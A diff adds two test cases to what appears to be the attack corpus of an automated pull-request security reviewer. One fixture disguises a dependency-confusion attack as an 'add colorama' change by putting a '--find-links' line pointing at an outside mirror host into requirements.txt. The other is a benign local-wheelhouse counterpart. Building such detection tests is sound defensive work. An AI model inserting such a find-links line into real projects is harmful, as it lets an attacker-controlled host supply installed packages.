@@ -4052,6 +4052,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
   },
   {
+    id: 'attack-requirements-find-links-mirror',
+    description:
+      'Dependency confusion through a requirements file without --extra-index-url: a "add colorama" PR puts `--find-links http://…/simple/` at the top of requirements.txt, so pip merges whatever that page links with PyPI\'s releases and installs the highest version of every requirement (pip\'s own -f, read in commands already).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7745,
+        title: 'Add colorama for Windows terminals',
+        files: [{ path: 'requirements.txt', base: lines('requests==2.32.3'), head: lines('--find-links http://pkgs.pyfast-mirror.net/simple/', 'requests==2.32.3', 'colorama==0.4.6') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'benign-requirements-find-links-local-wheelhouse',
+    description: "A maintainer points requirements.txt at the project's own wheelhouse folder, built by CI for offline installs: a local folder, not a page on another machine.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7746,
+        title: 'build: install from the wheelhouse when offline',
+        files: [{ path: 'requirements.txt', base: lines('requests==2.32.3'), head: lines('--find-links=./wheelhouse', 'requests==2.32.3') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
     id: 'attack-uv-toml-cache-settings',
     description: 'A maintainer tunes uv.toml: cache folder, managed Python only, lowest-direct resolution in CI.',
     fixture: () =>
